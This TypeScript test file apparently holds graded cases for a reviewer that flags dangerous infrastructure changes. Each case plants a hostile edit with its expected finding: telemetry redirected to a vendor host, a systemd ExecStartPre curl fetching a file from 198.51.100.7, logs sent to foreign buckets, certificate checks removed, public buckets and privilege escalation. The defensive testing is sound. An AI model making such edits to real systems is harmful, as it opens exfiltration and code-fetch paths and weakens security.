/** What may leave, what runs on machines and beside services: a third round of kinds. */
import { after, edit, type Graded } from '../graded';

const fleet = 'lib/machine/fleet.ts';
const iam = 'lib/common/iam.ts';
const agent = 'lib/collect/agent.ts';
const network = 'lib/network/network-stack.ts';
const prod = 'config/prod.ts';
const role = 'const role = new Role(scope, id, { assumedBy, description });';
const ends = '    this.addEndpoints();\n    this.addFlowLogs();';

export const leaving: readonly Graded[] = [
  {
    name: 'agents send to another host',
    edits: [
      edit(
        'lib/collect/entrance.ts',
        'loadBalancer.loadBalancerDnsName}:${ports.otlpGrpc}`;',
        "'otlp.vendor.example'}:${ports.otlpGrpc}`;",
      ),
    ],
    grade: 'danger',
    finds: { 'parameter-changes': 'otlp.vendor.example' },
  },
  {
    name: 'agents take their program from elsewhere',
    edits: [
      edit(
        agent,
        'export COLLECTOR_ARM64=${arm64.url} COLLECTOR_AMD64',
        'export COLLECTOR_ARM64=s3://vendor/collector.zip COLLECTOR_AMD64',
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 's3://vendor/collector.zip' },
  },
  {
    name: 'flow logs to a bucket of nobody knows whom',
    edits: [
      edit(
        prod,
        "  account: '333333333333',\n",
        "  account: '333333333333',\n  organisation: { flowLogArchiveArn: 'arn:aws:s3:::flow-log-vendor' },\n",
      ),
    ],
    grade: 'danger',
    finds: { 'way-out': 'flow-log-vendor' },
  },
  {
    name: 'a trail that writes to a bucket of nobody knows whom',
    edits: [
      after(
        network,
        ends,
        "    new (require('aws-cdk-lib/aws-cloudtrail').CfnTrail)(this, 'Trail', { isLogging: true, s3BucketName: 'trail-vendor' });",
      ),
    ],
    grade: 'danger',
    finds: { 'way-out': 'trail-vendor' },
  },
  {
    name: 'a route to a peering',
    edits: [
      after(
        network,
        ends,
        "    new (require('aws-cdk-lib/aws-ec2').CfnRoute)(this, 'Peer', { routeTableId: this.vpc.isolatedSubnets[0]!.routeTable.routeTableId, destinationCidrBlock: '10.99.0.0/16', vpcPeeringConnectionId: 'pcx-0123456789abcdef0' });",
      ),
    ],
    grade: 'danger',
    finds: { 'network-other-way': '10.99.0.0/16' },
  },
  {
    name: 'PrivateLink past the security group',
    edits: [
      edit(
        'lib/collect/gateways.ts',
        'enforceSecurityGroupInboundRulesOnPrivateLinkTraffic: true,',
        'enforceSecurityGroupInboundRulesOnPrivateLinkTraffic: false,',
      ),
    ],
    grade: 'danger',
    finds: { 'encryption-weakens': 'EnforceSecurityGroupInboundRulesOnPrivateLinkTraffic' },
  },
  {
    name: 'services learn of the mainland by themselves',
    edits: [
      after(
        'lib/link/transit.ts',
        "    associate('Vpc', homeTable, this.vpcAttachment.ref);",
        '    for (const { name, attachmentId } of attachments) propagate(`Direct${name}`, homeTable, attachmentId);',
      ),
    ],
    grade: 'caution',
    finds: { 'network-opens': 'to' },
  },
  {
    name: 'a receiver that asks for no certificate',
    edits: [
      edit(
        'lib/collector/gateway.ts',
        '      ...legacy.receivers,\n      otlp: {',
        "      ...legacy.receivers,\n      'otlp/open': { protocols: { http: { endpoint: `${bind}:14318` } } },\n      otlp: {",
      ),
      edit(
        'lib/collector/gateway.ts',
        "        traces: { receivers: ['otlp'],",
        "        traces: { receivers: ['otlp', 'otlp/open'],",
      ),
    ],
    grade: 'danger',
    finds: { 'collector-transport': '14318' },
  },
  {
    name: 'spans are printed, too',
    edits: [
      edit(
        'lib/collector/sampler.ts',
        "      ...relays,\n      'otlp_http/writer': {",
        "      ...relays,\n      debug: { verbosity: 'detailed' },\n      'otlp_http/writer': {",
      ),
      edit(
        'lib/collector/sampler.ts',
        "exporters: ['otlp_http/writer', ...Object.keys(forward)],",
        "exporters: ['otlp_http/writer', 'debug', ...Object.keys(forward)],",
      ),
    ],
    grade: 'danger',
    finds: { 'collector-sends': 'debug' },
  },
  {
    name: 'a unit that runs something before it starts',
    edits: [
      edit(
        'lib/machine/instance-files/harbourline-certificate.service',
        'ExecStart=/opt/harbourline/scripts/certificate.sh',
        'ExecStartPre=/usr/bin/curl -s http://198.51.100.7/x -o /tmp/x\nExecStart=/opt/harbourline/scripts/certificate.sh',
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 'ExecStartPre' },
  },
  {
    name: 'a collector that may see processes and devices',
    edits: [edit('lib/machine/instance-files/harbourline-collector.service', 'PrivateDevices=yes\n', '')],
    grade: 'danger',
    finds: { 'runs-as-root': 'PrivateDevices' },
  },
  {
    name: 'certificates are taken without a look',
    edits: [
      edit(
        'lib/machine/instance-files/certificate.sh',
        'openssl verify -partial_chain -CAfile "$fresh/authority.pem" "$fresh/certificate.pem" > /dev/null\n',
        '',
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': 'openssl verify' },
  },
  {
    name: 'a file that everybody on a machine may write',
    edits: [
      edit(
        fleet,
        '        { path: paths.configuration, content: props.configuration },',
        "        { path: paths.configuration, content: props.configuration, permissions: '0666' },",
      ),
    ],
    grade: 'danger',
    finds: { 'runs-as-root': '0666' },
  },
  {
    name: 'a managed policy of AWS for Systems Manager',
    edits: [
      edit(
        iam,
        role,
        `${role}\n  if (id === 'GatewayRole') role.addManagedPolicy(ManagedPolicy.fromAwsManagedPolicyName('AmazonSSMManagedInstanceCore'));`,
      ),
    ],
    grade: 'caution',
    finds: { 'iam-widens': 'AmazonSSMManagedInstanceCore' },
  },
  {
    name: 'the Python package masks less',
    edits: [edit('python/harbourline-otel/src/harbourline_otel/scrub.py', '        "exception.message",\n', '')],
    grade: 'caution',
    finds: { 'program-changes': 'scrub.py' },
  },
  {
    name: 'a pod of the agent that is its node',
    edits: [
      edit(
        'charts/harbourline-agent/templates/daemonset.yaml',
        'runAsUser: 0\n            allowPrivilegeEscalation: false',
        'runAsUser: 0\n            allowPrivilegeEscalation: true',
      ),
    ],
    grade: 'danger',
    finds: { 'program-reckless': 'allowPrivilegeEscalation: true' },
  },
  {
    name: 'the check of the store asks elsewhere',
    edits: [
      edit(
        'lib/store/check.ts',
        'STORE_ENDPOINT: `https://${props.domainEndpoint}`',
        "STORE_ENDPOINT: 'https://store.vendor.example'",
      ),
    ],
    grade: 'danger',
    finds: { 'function-sends': 'store.vendor.example' },
  },
  {
    name: 'a bucket that everybody reads',
    edits: [
      after('lib/machine/handover-bucket.ts', '      versioned: false,', "      accessControl: 'PublicRead' as never,"),
    ],
    grade: 'danger',
    finds: { 'way-out-opened': 'PublicRead' },
  },
  {
    name: 'what the agent prints goes to a bucket',
    edits: [
      after(
        agent,
        "      complianceSeverity: 'HIGH',",
        "      outputLocation: { s3Location: { outputS3BucketName: 'vendor', outputS3Region: 'ap-east-1' } },",
      ),
    ],
    grade: 'danger',
    finds: { 'way-out-opened': 'OutputLocation' },
  },
];
